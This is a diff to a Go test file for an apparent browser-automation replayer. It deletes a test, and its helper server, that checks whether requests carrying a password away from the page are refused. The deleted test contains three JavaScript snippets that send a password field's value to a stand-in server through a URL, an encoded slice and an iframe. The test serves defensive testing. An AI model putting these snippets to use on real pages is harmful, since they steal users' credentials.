@@ -5,10 +5,8 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
-	"net/http"
 	"net/http/httptest"
 	"strings"
-	"sync"
 	"testing"
 	"time"
 
@@ -139,51 +137,4 @@ func TestARightGuessIsRefusedLikeAWrongOne(t *testing.T) {
 	compared.Value = &automation.Value{Kind: automation.Literal, Value: json.RawMessage(`"zzz"`)}
 	s.refuses(compared)
 	s.must(on("click", "#b"))
-}
-
-// receiver notes all that it is sent.
-type receiver struct {
-	*httptest.Server
-	mu   sync.Mutex
-	sent []string
-}
-
-func receive(t *testing.T) *receiver {
-	r := &receiver{}
-	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
-		r.mu.Lock()
-		defer r.mu.Unlock()
-		_ = req.ParseForm()
-		r.sent = append(r.sent, req.URL.String(), req.Form.Encode(), req.Referer())
-		w.Header().Set("Access-Control-Allow-Origin", "*")
-		fmt.Fprint(w, "ok")
-	}))
-	t.Cleanup(r.Close)
-	return r
-}
-
-func TestARequestThatCarriesASecretAwayIsNotSent(t *testing.T) {
-	t.Parallel()
-	for name, script := range map[string]string{
-		"link":  `location = away + "/?q=" + encodeURIComponent(p.value)`,
-		"piece": `location = away + "/" + btoa(p.value.slice(2, 11))`,
-		"frame": `document.body.append(Object.assign(document.createElement("iframe"), {src: away + "/?q=" + p.value.slice(0, 8)}))`,
-	} {
-		t.Run(name, func(t *testing.T) {
-			t.Parallel()
-			away := receive(t)
-			server := serve(t, fmt.Sprintf(`<input id=p type=password><button id=go>Go</button><script>const away = %q; go.onclick = () => { %s }</script>`, away.URL, script))
-			s := openLone(t, server, nil)
-			s.must(typed("#p"))
-			eventually(t, "refused", func() bool { // a press may be over before the page asks, and a page that was not shown yet hears of none
-				var e *replayer.Error
-				return errors.As(s.do(on("click", "#go")), &e) && e.Code == replayer.Refused && strings.Contains(e.Reason, away.URL)
-			})
-			away.mu.Lock()
-			defer away.mu.Unlock()
-			if all := strings.Join(away.sent, " "); strings.Contains(all, canary[2:8]) || strings.Contains(all, "q=") {
-				t.Errorf("%s", all)
-			}
-		})
-	}
 }
